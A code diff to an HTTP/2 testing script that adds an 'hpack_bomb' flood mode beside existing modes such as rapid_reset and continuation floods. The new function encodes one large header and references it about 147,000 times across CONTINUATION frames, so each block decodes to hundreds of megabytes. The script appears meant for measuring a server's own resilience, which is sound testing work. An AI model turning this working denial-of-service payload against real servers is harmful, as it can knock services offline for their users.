@@ -12,7 +12,7 @@ count, so it always ends.
   h2_frames.py PORT indexing PATH    two GETs: which response fields HPACK may not index
   h2_frames.py PORT flood KIND       rapid_reset, ping, settings, priority, empty_data,
                                      continuation, stall_head, stall_window, settings_timeout,
-                                     idle (no flood: keepalive_timeout);
+                                     hpack_bomb, idle (no flood: keepalive_timeout);
                                      a second connection measures its own requests meanwhile
 """
 import socket
@@ -209,6 +209,18 @@ def good_client(port, stop, out):
     c.close()
 
 
+def hpack_bomb(sid):
+    """One request whose header block indexes a 4,000-byte field, then refers to it ~147,000
+    times in 9 frames (nghttp2 allows 8 CONTINUATION): 588 MB of decoded fields per block."""
+    enc = hpack.Encoder()  # its own: literals with incremental indexing, x-big inserted last
+    block = enc.encode(get("/")) + enc.encode([("x-big", "a" * 4000)])
+    first = block + b"\xbe" * (16384 - len(block))  # 0xbe: dynamic entry 62, x-big
+    frames = [frame(HEADERS, 0, sid, first)]
+    for i in range(8):
+        frames.append(frame(CONTINUATION, END_HEADERS if i == 7 else 0, sid, b"\xbe" * 16384))
+    return b"".join(frames)
+
+
 def flood(port, kind):
     stop, good = threading.Event(), {}
     helper = threading.Thread(target=good_client, args=(port, stop, good))
@@ -243,6 +255,10 @@ def flood(port, kind):
                 batch.append(frame(DATA, 0, 1, b""))
             elif kind == "continuation":
                 batch.append(frame(CONTINUATION, 0, 1, b""))
+            elif kind == "hpack_bomb":
+                if len(batch) < 4:  # ~600 KB per batch
+                    batch.append(hpack_bomb(sid))
+                    sid += 2
             sent += 1
         c.send(b"".join(batch))
         c.pump(done, time.monotonic() + 0.001)
